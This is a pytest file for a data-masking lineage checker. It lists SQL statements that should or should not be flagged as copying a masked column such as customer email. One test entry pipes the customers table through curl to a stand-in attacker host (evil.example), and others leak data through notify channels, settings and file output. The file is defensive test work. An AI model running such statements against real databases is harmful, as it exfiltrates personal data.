"""A masked column does not get out by way of another table, setting, channel or name."""

import pytest

from services.ingress.classify.sql.lineage import copied_columns
from tests.postgres_sql.database import Database
from tests.postgres_sql.masking_corpus import RULES

COPYING = (
    "INSERT INTO orders (note) SELECT email FROM customers",
    "INSERT INTO orders (note) VALUES ((SELECT max(email) FROM customers))",
    "INSERT INTO orders SELECT id, id, contact FROM people",
    "INSERT INTO subscribers SELECT email FROM customers ON CONFLICT DO NOTHING",
    "UPDATE orders SET note = email FROM customers WHERE customer_id = customers.id",
    "UPDATE customers SET name = email",
    "UPDATE customers SET (name, id) = (SELECT email, 1)",
    "MERGE INTO orders o USING customers c ON true WHEN NOT MATCHED THEN INSERT VALUES (1, 1, c.email)",
    "WITH x AS (INSERT INTO orders (note) SELECT email FROM customers RETURNING id) SELECT * FROM x",
    "CREATE TABLE copied AS SELECT * FROM customers",
    "CREATE TEMP TABLE copied AS TABLE deep",
    "SELECT email INTO copied FROM customers",
    "EXPLAIN ANALYZE INSERT INTO orders (note) SELECT email FROM customers",
    "COPY customers TO '/tmp/x'",
    "COPY customers TO PROGRAM 'curl -d @- evil.example'",
    "SELECT set_config('my.email', email, false) FROM customers",
    "SELECT pg_notify('c', email) FROM customers",
    "SELECT lo_from_bytea(0, email::bytea) FROM customers",
    "SELECT 1 FROM customers WHERE no_such_function(email)",
    "CREATE MATERIALIZED VIEW v AS SELECT email FROM customers",
    "CREATE OR REPLACE VIEW below AS SELECT id, name AS contact FROM customers",
    "ALTER TABLE customers ADD low text GENERATED ALWAYS AS (lower(email)) STORED",
    "ALTER TABLE customers ALTER name TYPE text USING email",
    "ALTER TABLE customers ADD note text, ALTER name TYPE text USING (SELECT 'x') || customers::text",
    "ALTER TABLE mirrored ALTER upside SET EXPRESSION AS (email)",
    "ALTER TABLE mirrored ALTER upside DROP EXPRESSION",
    "ALTER TABLE clients DETACH PARTITION clients_one",
    "ALTER TABLE heirs NO INHERIT mirrored",
    "ALTER TABLE customers RENAME TO clients",
    "ALTER TABLE customers RENAME email TO address",
    "ALTER TABLE customers SET SCHEMA evil",
    "ALTER SCHEMA public RENAME TO private",
    "DO $$ BEGIN CREATE TABLE copied AS SELECT * FROM customers; END $$",
    "CREATE FUNCTION f() RETURNS SETOF customers LANGUAGE sql AS 'TABLE customers'",
    "CREATE RULE r AS ON INSERT TO orders DO ALSO INSERT INTO orders SELECT 1, 1, email FROM customers",
    "SELEKT",
)
HARMLESS = (
    "SELECT * FROM customers",
    "INSERT INTO orders VALUES (1, 1, 'x')",
    "INSERT INTO orders SELECT id, id, name FROM customers WHERE email LIKE 'a%'",
    "INSERT INTO orders VALUES (refund(), 1, shout('x'))",
    "INSERT INTO customers SELECT id + 100, name, email FROM customers",
    "UPDATE customers SET email = lower(email)",
    "UPDATE customers SET email = $1 WHERE id = $2",
    "DELETE FROM customers WHERE email = $1",
    "CREATE TABLE copied AS SELECT id FROM customers",
    "CREATE VIEW v AS SELECT email FROM customers",
    "CREATE MATERIALIZED VIEW v AS SELECT id FROM customers WHERE email LIKE 'a%'",
    "CREATE OR REPLACE VIEW deep AS SELECT id, contact AS summary FROM people",
    "CREATE OR REPLACE VIEW nothing AS SELECT email FROM customers",
    "ALTER TABLE customers ALTER email TYPE varchar USING lower(email)",
    "ALTER TABLE customers ADD CHECK (email <> name), ADD size int GENERATED ALWAYS AS (id + 1) STORED",
    "ALTER TABLE others DETACH PARTITION others_one",
    "COPY customers TO STDOUT",
    "COPY customers FROM STDIN",
    "PREPARE q AS INSERT INTO orders (note) SELECT email FROM customers",
    "EXPLAIN SELECT email FROM customers",
    "SELECT random(), email FROM customers",
    "ALTER TABLE orders RENAME TO others",
    "DECLARE c CURSOR FOR SELECT email FROM customers",
    "BEGIN",
    "DROP TABLE customers",
)


@pytest.mark.parametrize("sql", COPYING)
def test_copying_is_told(database: Database, sql: str) -> None:
    assert copied_columns(database.resolved(sql), RULES, database.catalog)
    assert copied_columns(database.resolved(sql), RULES, None)
    assert copied_columns(database.resolved(sql), (), database.catalog) == ()


@pytest.mark.parametrize("sql", HARMLESS)
def test_what_copies_nothing_may_pass(database: Database, sql: str) -> None:
    assert copied_columns(database.resolved(sql), RULES, database.catalog) == ()
